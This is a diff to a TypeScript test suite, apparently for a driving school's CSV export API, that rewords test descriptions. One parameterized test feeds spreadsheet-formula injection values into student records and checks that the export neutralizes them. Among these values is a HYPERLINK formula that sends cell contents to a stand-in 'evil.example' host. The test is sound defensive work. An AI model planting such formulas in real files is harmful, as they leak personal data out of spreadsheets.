@@ -29,7 +29,7 @@ function rowsOf(text: string, delimiter = ';'): readonly Record<string, string>[
 }
 
 describe('the students as a file', () => {
-  it('are what the API says, and come back by an import', async () => {
+  it('are the same as in the API, and can be imported again', async () => {
     const { id: instructor } = await school.instructor()
     const templates: { id: string; code: string }[] = (await school.client.get('/license-class-templates'))
       .body
@@ -75,7 +75,7 @@ describe('the students as a file', () => {
   })
 
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '=HYPERLINK("https://evil.example?"&A1)'])(
-    'has nothing that a spreadsheet computes: %s',
+    'has nothing that a spreadsheet evaluates: %s',
     async (formula) => {
       await school.student({ first_name: formula, last_name: formula, notes: formula })
       const [row] = parse((await fileOf('/exports/students.csv')).text, {
@@ -87,7 +87,7 @@ describe('the students as a file', () => {
     },
   )
 
-  it('is written as the school writes', async () => {
+  it("follows the school's conventions", async () => {
     const english = await aSchool(service(), { locale: 'en', country: 'GB', timezone: 'Europe/London' })
     await english.student()
     const { text } = await fileOf('/exports/students.csv', english)
@@ -97,7 +97,7 @@ describe('the students as a file', () => {
     expect(rowsOf(text, ',')).toMatchObject([{ 'First name': 'Lena', 'Last name': 'Vogt' }])
   })
 
-  it('has all of them, also beyond a page, and none of a deleted one or of another school', async () => {
+  it('has all of them, even beyond one page, but no deleted ones and none of another school', async () => {
     await (await aSchool(service())).student({ last_name: 'Fremd' })
     const { id } = await school.student({ last_name: 'Weg' })
     await school.client.delete(`/students/${id}`)
@@ -156,7 +156,7 @@ describe('lessons and worked time as files', () => {
     ])
   })
 
-  it.each(['appointments', 'worked-time'])('%s need a period', async (name) => {
+  it.each(['appointments', 'worked-time'])('%s needs a period', async (name) => {
     const { status, body } = await school.client.get(`/exports/${name}.csv`)
     expect([status, body.errors.length]).toEqual([400, 2])
     const order = await school.client.get(`/exports/${name}.csv?from=2026-05-02&to=2026-05-01`)
